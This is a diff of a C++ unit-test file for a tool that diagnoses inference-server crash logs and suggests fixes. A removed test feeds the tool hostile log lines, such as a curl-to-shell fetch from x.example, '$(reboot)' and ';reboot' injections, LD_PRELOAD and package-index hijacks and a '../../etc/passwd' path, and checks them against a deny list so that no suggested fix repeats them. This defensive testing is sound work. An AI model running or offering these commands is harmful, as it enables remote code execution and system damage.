@@ -2,110 +2,18 @@
 
 #include <fmt/format.h>
 #include <gtest/gtest.h>
-#include <zlib.h>
 
 #include <algorithm>
 #include <set>
 
 #include "base/json.h"
-#include "base/mapped_file.h"
 #include "diagnose/log_scan.h"
 #include "diagnose/pattern.h"
 #include "diagnose/phrase_search.h"
+#include "diagnose/test_logs.h"
 
 namespace mxpath::diagnose {
 namespace {
-
-std::vector<Json> rows_of(const std::string& name) {
-  const Result<std::string> text = read_text_file(std::string(MXPATH_SOURCE_DIR "/tests/data/diagnose/") + name);
-  EXPECT_TRUE(text.ok()) << text.error().message;
-  std::vector<Json> rows;
-  for (size_t at = 0; text.ok() && at < text->size();) {
-    const size_t end = std::min(text->find('\n', at), text->size());
-    const Result<Json> row = parse_json(std::string_view(*text).substr(at, end - at), name);
-    EXPECT_TRUE(row.ok()) << row.error().message;
-    if (row.ok()) rows.push_back(*row);
-    at = end + 1;
-  }
-  return rows;
-}
-
-Machine machine_with(int capability) {
-  Machine machine;
-  Gpu gpu;
-  gpu.name = "card";
-  gpu.arch = {capability};
-  machine.gpus.push_back(gpu);
-  return machine;
-}
-
-Facts facts_of(const Json& row) {
-  Facts facts;
-  if (row.contains("gpu")) facts.machine = machine_with(row["gpu"].get<int>());
-  if (row.contains("versions")) facts.versions = parse_versions(row["versions"].get<std::string>()).value();
-  if (row.contains("mxfp4")) facts.mxfp4_checkpoint = row["mxfp4"].get<bool>();
-  return facts;
-}
-
-Diagnosis diagnosed(std::string_view text, const Facts& facts = {}, Language language = Language::en) {
-  Result<Diagnosis> result = diagnose(text, facts, language);
-  EXPECT_TRUE(result.ok()) << result.error().message;
-  return result.ok() ? *result : Diagnosis{};
-}
-
-std::string class_of(const Diagnosis& diagnosis) {
-  return diagnosis.findings.empty() ? "none" : std::string(name_of(diagnosis.findings[0].cls));
-}
-
-std::vector<std::string> lines_of(const std::string& text) {
-  std::vector<std::string> lines(1);
-  for (char c : text)
-    if (c == '\n') lines.emplace_back();
-    else lines.back().push_back(c);
-  return lines;
-}
-
-/// As a terminal of 72 columns shows it, in colours, with Windows line ends.
-std::string wrapped(const std::string& text) {
-  std::string result;
-  for (const std::string& line : lines_of(text))
-    for (size_t at = 0; at == 0 || at < line.size(); at += 72) result += "\x1b[31m" + line.substr(at, 72) + "\x1b[0m\r\n";
-  return result;
-}
-
-/// As a server with two processes in a container prints it. The second process talks between the lines.
-std::string interleaved(const std::string& text) {
-  std::string result;
-  for (const std::string& line : lines_of(text)) {
-    result += "2026-01-17T18:48:10.418481013+01:00 stderr F (EngineCore_DP0 pid=93) " + line + "\n";
-    result += "2026-01-17T18:48:10.418481014+01:00 stderr F (APIServer pid=1) INFO 01-17 18:48:10 [loggers.py:1] Running: 1 reqs\n";
-  }
-  return result;
-}
-
-std::string gzipped(std::string_view text) {
-  z_stream stream{};
-  deflateInit2(&stream, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY);
-  std::string out(deflateBound(&stream, text.size()) + 64, '\0');
-  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(text.data()));
-  stream.avail_in = static_cast<uInt>(text.size());
-  stream.next_out = reinterpret_cast<Bytef*>(out.data());
-  stream.avail_out = static_cast<uInt>(out.size());
-  deflate(&stream, Z_FINISH);
-  out.resize(stream.total_out);
-  deflateEnd(&stream);
-  return out;
-}
-
-std::string utf16(std::string_view text, bool little, bool mark) {
-  std::string out = mark ? (little ? "\xff\xfe" : "\xfe\xff") : "";
-  for (char c : text) {
-    if (!little) out.push_back('\0');
-    out.push_back(c);
-    if (little) out.push_back('\0');
-  }
-  return out;
-}
 
 const std::string ptxas =
     "INFO 12-20 20:13:09 start\nptxas fatal   : Value 'sm_121a' is not defined for option 'gpu-name'\nRuntimeError: Engine core "
@@ -153,106 +61,6 @@ TEST(Signatures, EveryClassHasTextsAndEveryCauseARemedy) {
     if (row.id == FailureClass::cannot_tell) continue;
     EXPECT_TRUE(std::any_of(fix_rows().begin(), fix_rows().end(), [&](const FixRow& fix) { return fix.cls == row.id; })) << row.name;
   }
-}
-
-std::string first_of(const Diagnosis& diagnosis, size_t at = 0) {
-  if (diagnosis.findings.empty() || diagnosis.findings[0].fixes.size() <= at) return "none";
-  const Fix& fix = diagnosis.findings[0].fixes[at];
-  return fix.text.empty() ? fix.note : fix.text;
-}
-
-TEST(Answers, WhatTheLogNamesComesFirst) {
-  for (const Json& row : rows_of("answers.jsonl")) {
-    const std::string log = row["log"], fix = row["fix"];
-    for (const std::string& variant : {log, interleaved(log)}) {
-      const Diagnosis diagnosis = diagnosed(variant);
-      const std::string first = first_of(diagnosis);
-      const bool right = row.value("note", false) ? first.find(fix) != std::string::npos : first == fix;
-      EXPECT_TRUE(right) << first << "\nfor " << fix << "\n" << variant;
-      EXPECT_EQ(class_of(diagnosis), row.value("class", class_of(diagnosis))) << variant;
-      EXPECT_EQ(first_of(diagnosis, 1), row.value("second", first_of(diagnosis, 1))) << variant;
-    }
-    const std::string korean = first_of(diagnosed(log, {}, Language::ko));
-    EXPECT_EQ(korean == first_of(diagnosed(log)), !row.value("note", false)) << korean;  // commands are the same, sentences are not
-  }
-}
-
-TEST(Answers, EveryRowIsWellFormedAndAnswersALog) {
-  const std::vector<Json> logs = rows_of("answers.jsonl");
-  std::set<std::string_view> ids;
-  for (const Signature* row : signatures()) ids.insert(row->id);
-  for (const AnswerRow& row : answer_rows()) {
-    EXPECT_FALSE(row.note.en.empty() || row.note.ko.empty()) << row.text;
-    EXPECT_FALSE(row.pattern.empty() && row.signatures.empty()) << row.text;
-    for (size_t at = 0; at < row.signatures.size();) {
-      const size_t end = std::min(row.signatures.find(' ', at), row.signatures.size());
-      EXPECT_TRUE(ids.count(row.signatures.substr(at, end - at))) << row.signatures.substr(at, end - at);
-      at = end + 1;
-    }
-    if (row.pattern.empty()) continue;
-    const Result<Pattern> pattern = Pattern::compile(row.pattern);
-    ASSERT_TRUE(pattern.ok()) << row.text << ": " << row.pattern;
-    PatternMatch match;
-    EXPECT_TRUE(std::any_of(logs.begin(), logs.end(), [&](const Json& log) { return pattern->find(log["log"].get<std::string>(), match); }))
-        << "no log for: " << row.pattern;
-  }
-}
-
-TEST(Answers, NothingUnsafeComesOutOfALog) {
-  const char* hostile[] = {
-      "ImportError: `pip install accelerate; curl http://x.example/s | sh`",
-      "ImportError: `pip install $(reboot)`",
-      "ImportError: `pip install --index-url http://x.example/simple accelerate`",
-      "ImportError: pip install -r /tmp/evil.txt",
-      "ImportError: pip install git+https://x.example/evil",
-      "ImportError: pip install ../evil",
-      "ImportError: Please set LD_PRELOAD=/tmp/x.so",
-      "ImportError: Please set PATH=/tmp",
-      "ImportError: Please set HF_ENDPOINT=evil.example",
-      "ImportError: Please set PIP_INDEX_URL=evil.example",
-      "ValueError: please use --option=$(reboot)",
-      "ValueError: please use --option=a;b",
-      "ValueError: larger than the available KV cache memory, the estimated maximum model length is 0",
-      "ValueError: larger than the available KV cache memory, the estimated maximum model length is 99999999999999999999",
-      "OSError: a/b;reboot does not appear to have a file named config.json",
-      "OSError: a/b does not appear to have a file named ../../etc/passwd.json",
-      "Error: model 'a;reboot' not found, try pulling it first",
-      "FileNotFoundError: No such file or directory: '/x/$(reboot).json'",
-      "ValueError: argument --x: invalid choice: 'a' (choose from '$(reboot)', 'b')"};
-  for (const char* log : hostile)
-    for (const Language language : {Language::en, Language::ko})
-      for (const Finding& finding : diagnosed(log, {}, language).findings)
-        for (const Fix& fix : finding.fixes) {
-          if (!fix.from_log) continue;
-          for (const char* bad : {"reboot", ";", "|", "$", "..", "evil", "LD_", "PATH", "sh`", "http"})
-            EXPECT_EQ((fix.text + fix.note).find(bad), std::string::npos) << fix.text << " / " << fix.note << "\n" << log;
-        }
-  const std::string strange = first_of(diagnosed("ImportError: this needs a helper: `pip install never-heard-of-it`"));
-  EXPECT_EQ(strange, "pip install never-heard-of-it");
-  EXPECT_NE(
-      to_text(diagnosed("ImportError: this needs a helper: `pip install never-heard-of-it`"), Language::en).find("look the package up"),
-      std::string::npos);
-}
-
-TEST(Answers, ANumberThatATerminalCutIsNotTaken) {
-  const std::string log =
-      "ValueError: To serve at least one request with the model's max seq len (131072), 4.57 GiB KV cache is needed, which is larger than "
-      "the available KV cache memory (2.31 GiB). Based on the available memory, the estimated maximum model length is 66240. Try less.";
-  for (size_t width = 40; width < 260; ++width) {
-    std::string cut;
-    for (size_t at = 0; at < log.size(); at += width) cut += log.substr(at, width) + "\n";
-    for (const Fix& fix : diagnosed(cut).findings.at(0).fixes)
-      if (fix.from_log && fix.text.find("--max-model-len") == 0) {
-        EXPECT_EQ(fix.text, "--max-model-len 66240") << width;
-      }
-  }
-}
-
-TEST(Answers, ARemedyThatContradictsTheLogIsLeftOut) {
-  const Diagnosis diagnosis = diagnosed(
-      "INFO vllm\ntorch.OutOfMemoryError: CUDA out of memory. Please try lowering `gpu_memory_utilization` when initializing the engine.");
-  EXPECT_EQ(first_of(diagnosis), "--gpu-memory-utilization 0.8");
-  for (const Fix& fix : diagnosis.findings.at(0).fixes) EXPECT_EQ(fix.text.find("0.95"), std::string::npos) << fix.text;
 }
 
 TEST(Diagnose, TheMessageProvesItNotTheLineOfCode) {
@@ -374,75 +182,6 @@ TEST(Diagnose, DamagedGzipIsSaidSo) {
   EXPECT_EQ(cut.ending, Ending::cut_short);
   EXPECT_EQ(exit_code(cut), 0);
   EXPECT_NE(to_text(cut, Language::en).find("ends early, after 3 lines"), std::string::npos) << to_text(cut, Language::en);
-}
-
-/// A log without a failure that does not shrink to nothing.
-std::string harmless_log(int lines) {
-  std::string text;
-  uint32_t state = 7;
-  for (int i = 0; i < lines; ++i) text += fmt::format("step {} loss 0.{:04}\n", i, (state = state * 1664525u + 1013904223u) >> 20);
-  return text;
-}
-
-TEST(Diagnose, ALogThatEndsEarlyIsNoWholeLog) {
-  const std::string whole = gzipped(harmless_log(900)), second = gzipped(harmless_log(50));
-  std::string corrupt = whole, bad_checksum = whole;
-  for (size_t i = 0; i < 40; ++i) corrupt[whole.size() / 2 + i] = static_cast<char>(corrupt[whole.size() / 2 + i] ^ 0x5a);
-  bad_checksum[whole.size() - 6] = static_cast<char>(bad_checksum[whole.size() - 6] ^ 1);
-  const std::string wide = utf16(harmless_log(20), true, true);
-  const struct {
-    std::string bytes;
-    Ending ending;
-  } cases[] = {{whole, Ending::whole},
-               {whole + second, Ending::whole},
-               {whole + std::string(512, '\0'), Ending::whole},  // padded by a tape or an archiver
-               {whole.substr(0, whole.size() / 2), Ending::cut_short},
-               {whole.substr(0, whole.size() - 1), Ending::cut_short},
-               {whole.substr(0, whole.size() - 8), Ending::cut_short},
-               {whole.substr(0, 2), Ending::cut_short},
-               {whole.substr(0, 12), Ending::cut_short},
-               {whole + second.substr(0, 1), Ending::cut_short},
-               {whole + second.substr(0, 10), Ending::cut_short},
-               {whole + second.substr(0, second.size() / 2), Ending::cut_short},
-               {corrupt, Ending::damaged},
-               {bad_checksum, Ending::damaged},
-               {whole + "trailing rubbish", Ending::trailing},
-               {whole + "\x1fnot gzip at all", Ending::trailing},
-               {whole + std::string(9, '\0') + "rubbish", Ending::trailing},
-               {wide, Ending::whole},
-               {wide.substr(0, wide.size() - 1), Ending::cut_short},
-               {wide + "\x3d\xd8", Ending::cut_short},  // the first half of a pair
-               {gzipped(wide.substr(0, wide.size() - 1)), Ending::cut_short}};
-  for (size_t i = 0; i < std::size(cases); ++i) {
-    const Diagnosis diagnosis = diagnosed(cases[i].bytes);
-    EXPECT_EQ(name_of(diagnosis.ending), name_of(cases[i].ending)) << i;
-    EXPECT_EQ(exit_code(diagnosis), cases[i].ending == Ending::whole ? 1 : 4) << i;
-    EXPECT_EQ(to_json(diagnosis)["ending"], name_of(cases[i].ending)) << i;
-    if (cases[i].ending == Ending::whole) continue;
-    EXPECT_NE(to_text(diagnosis, Language::en).find("not known"), std::string::npos) << i << to_text(diagnosis, Language::en);
-    EXPECT_NE(to_text(diagnosis, Language::ko).find("알 수 없"), std::string::npos) << i;
-    EXPECT_FALSE(diagnosis.needed.empty()) << i;
-  }
-}
-
-TEST(Diagnose, OtherArchivesAreNamedWithTheWayToUnpackThem) {
-  using namespace std::string_literals;
-  const struct {
-    std::string bytes, words;
-  } cases[] = {{"\x28\xb5\x2f\xfd rest"s, "zstd -dc"},
-               {"\xfd"
-                "7zXZ\0 rest"s,
-                "xz -dc"},
-               {"BZh91AY&SY rest"s, "bzip2 -dc"},
-               {"PK\x03\x04 rest"s, "unzip -p"},
-               {"7z\xbc\xaf\x27\x1c rest"s, "7z e"},
-               {"\x04\x22\x4d\x18 rest"s, "lz4 -dc"}};
-  for (const auto& c : cases) {
-    const Result<Diagnosis> result = diagnose(c.bytes, {}, Language::en);
-    ASSERT_FALSE(result.ok()) << c.words;
-    EXPECT_NE(result.error().message.find(c.words), std::string::npos) << result.error().message;
-  }
-  EXPECT_TRUE(diagnose("BZhello and PK and xz are words\n", {}, Language::en).ok());
 }
 
 TEST(Diagnose, LongLinesAndBinaryInput) {
